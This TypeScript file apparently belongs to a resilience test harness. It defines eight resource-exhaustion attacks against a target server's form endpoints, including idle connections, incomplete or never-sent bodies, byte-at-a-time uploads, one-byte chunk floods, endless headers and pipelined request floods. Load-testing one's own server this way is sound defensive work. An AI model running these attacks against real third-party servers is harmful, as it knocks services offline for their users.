import type { Attack } from "./attacker";
import { headOf, holdMany } from "./attacker";

const MB = 1024 * 1024;
const json = { "Content-Type": "application/json" };

/** Attacks that hold connections, or what other requests wait for. */
export const attackConnections: Attack[] = [
  { name: "600 connections that say nothing", strike: (target) => holdMany(target, 600, () => undefined) },
  {
    name: "150 bodies of 4 MB that lack the end",
    strike: (target) =>
      holdMany(target, 150, (socket) => {
        socket.write(headOf(target.forms.texts, { ...json, "Content-Length": 4 * MB }));
        socket.write(Buffer.alloc(3.9 * MB, "x"));
      }),
  },
  {
    name: "300 bodies that are announced and never come",
    strike: (target) => holdMany(target, 300, (socket) => socket.write(headOf(target.forms.texts, { ...json, "Content-Length": 4 * MB }))),
  },
  {
    name: "200 uploads, a byte at a time",
    strike: (target) =>
      holdMany(target, 200, (socket) => {
        socket.write(
          headOf(`${target.forms.files}/files`, { "Content-Type": "multipart/form-data; boundary=x", "Content-Length": 9 * MB }),
        );
        socket.write('--x\r\nContent-Disposition: form-data; name="cv"; filename="a.txt"\r\n\r\n');
        const timer = setInterval(() => socket.write("x"), 100);
        socket.once("close", () => clearInterval(timer));
      }),
  },
  {
    name: "chunks of one byte",
    strike: (target) =>
      holdMany(target, 20, (socket) =>
        socket.write(headOf(target.forms.plain, { ...json, "Transfer-Encoding": "chunked" }) + "1\r\nx\r\n".repeat(20_000)),
      ),
  },
  {
    name: "headers without end",
    strike: (target) => holdMany(target, 50, (socket) => socket.write(`GET / HTTP/1.1\r\n${"X-More: and more\r\n".repeat(2_000)}`)),
  },
  {
    name: "2,000 requests at once on ten connections",
    strike: (target) => holdMany(target, 10, (socket) => socket.write(`GET ${target.forms.plain} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(200))),
  },
  {
    name: "large pages that nobody reads",
    strike: (target) => holdMany(target, 40, (socket) => socket.write(`GET ${target.forms.selects} HTTP/1.1\r\nHost: x\r\n\r\n`)),
  },
];
